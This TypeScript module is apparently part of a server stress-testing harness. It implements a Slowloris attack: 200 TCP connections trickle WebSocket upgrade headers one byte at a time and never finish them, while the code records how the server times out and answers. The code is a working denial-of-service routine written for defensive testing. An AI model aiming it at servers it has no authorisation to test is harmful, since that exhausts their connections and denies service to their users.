// Slowloris: many connections that send an upgrade request one byte at a time and never finish its
// headers. Each costs the server a socket and a parser; the defence is a deadline for the whole
// head (Node's headersTimeout, for one), which this attack measures: how long the server waits,
// and what it answers when it gives up.
import { connect, type Socket } from "node:net";
import { hostAndPort, statusOf } from "../../test/support/raw-http.ts";
import { upgradeRequestHead } from "../../test/support/wire/handshake.ts";
import { untilStopped, type Attack } from "../attack.ts";
import { inLanes } from "../connections.ts";

const connections = 200;
const byteEveryMs = 500;

interface SlowRequest {
  socket: Socket;
  connectedAt: number;
  sent: number;
  /** The first bytes of anything the server answered (enough for its status line). */
  answer: string;
  serverClosedAfterMs: number | undefined;
  reset: boolean;
}

export const slowloris: Attack = {
  name: "slowloris",
  summary: `${connections} TCP connections send upgrade headers one byte every ${byteEveryMs} ms, never finishing`,
  async run({ baseUrl, stop, reactions, details }) {
    // The request's valid headers, then one header whose value never ends.
    const stream = Buffer.from(`${upgradeRequestHead(baseUrl, "/echo")}X-Slowloris: `, "latin1");
    const byteAt = (index: number) => (index < stream.length ? stream.subarray(index, index + 1) : Buffer.from("a"));
    const requests: SlowRequest[] = [];
    let connectFailures = 0;

    const ticker = setInterval(() => {
      for (const request of requests) {
        if (request.serverClosedAfterMs !== undefined || request.socket.destroyed) continue;
        request.socket.write(byteAt(request.sent++));
      }
    }, byteEveryMs);

    await inLanes(connections, 50, stop, async () => {
      const socket = connect(hostAndPort(baseUrl)).setNoDelay(true).on("error", () => {});
      const connected = await new Promise<boolean>((resolve) => {
        socket.once("connect", () => resolve(true));
        socket.once("close", () => resolve(false));
      });
      if (!connected) {
        connectFailures++;
        return;
      }
      const request: SlowRequest = { socket, connectedAt: performance.now(), sent: 0, answer: "", serverClosedAfterMs: undefined, reset: false };
      socket.on("data", (chunk: Buffer) => {
        if (request.answer.length < 64) request.answer += chunk.toString("latin1", 0, 64);
      });
      socket.on("error", (error: NodeJS.ErrnoException) => {
        if (error.code === "ECONNRESET" || error.code === "EPIPE") request.reset = true;
      });
      socket.on("close", () => {
        if (!stop.aborted) request.serverClosedAfterMs = performance.now() - request.connectedAt;
      });
      requests.push(request);
    });

    await untilStopped(stop);
    clearInterval(ticker);
    const closedAfter: number[] = [];
    for (const request of requests) {
      const status = statusOf(request.answer);
      if (status !== undefined) reactions.handshakeAnswer(status);
      else reactions.ended(request.reset ? "resets" : request.serverClosedAfterMs !== undefined ? "endedWithoutCloseFrame" : "openAtEnd");
      if (request.serverClosedAfterMs !== undefined) closedAfter.push(request.serverClosedAfterMs);
      request.socket.destroy();
    }
    closedAfter.sort((a, b) => a - b);
    Object.assign(details, {
      connections: requests.length,
      connectFailures,
      headerBytesSentMax: Math.max(0, ...requests.map((request) => request.sent)),
      closedByServer: closedAfter.length,
      ...(closedAfter.length > 0 && {
        firstClosedAfterS: Math.round(closedAfter[0]! / 100) / 10,
        lastClosedAfterS: Math.round(closedAfter[closedAfter.length - 1]! / 100) / 10,
      }),
    });
  },
};
